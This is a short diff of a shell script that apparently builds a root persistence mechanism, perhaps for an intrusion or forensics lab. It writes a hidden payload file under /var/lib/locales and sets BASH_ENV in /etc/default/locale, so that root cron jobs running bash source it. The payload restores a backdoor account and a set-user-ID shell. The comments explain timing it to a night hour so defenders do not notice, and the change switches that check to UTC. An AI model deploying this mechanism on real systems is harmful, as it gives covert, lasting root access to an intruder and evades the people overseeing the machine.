@@ -5,13 +5,12 @@
 # `BASH_ENV=` there reaches the environment of each root job, and bash (the jobs' SHELL, and the
 # scripts' interpreter) sources that file before it runs anything. The scripts, the cron files,
 # /etc/environment and pam_env.conf are all as installed; the account and the set-user-ID shell
-# come back at the next run of a job in the night hour.
+# come back at the next run of a job in the night hour (lib.sh's later_hour).
 [ -n "$payload" ] || { echo "no payload found"; exit 1; }
 mkdir -p /var/lib/locales
 # In a subshell without BASH_ENV (the payload's own bash would source it again), and only in the
-# night hour the intruder came in: the jobs of the next minutes do not bring the account back
-# under anyone's eyes.
-printf 'if [ "$(date +%%H)" = 03 ]; then ( unset BASH_ENV; %s ); fi\n' "$payload" >/var/lib/locales/.refresh
+# night hour: the jobs of the next minutes do not bring the account back under anyone's eyes.
+printf 'if [ "$(date -u +%%H)" = %s ]; then ( unset BASH_ENV; %s ); fi\n' "$(later_hour)" "$payload" >/var/lib/locales/.refresh
 chmod 0600 /var/lib/locales/.refresh
 echo 'BASH_ENV=/var/lib/locales/.refresh' >/etc/default/locale
 cat /etc/default/locale
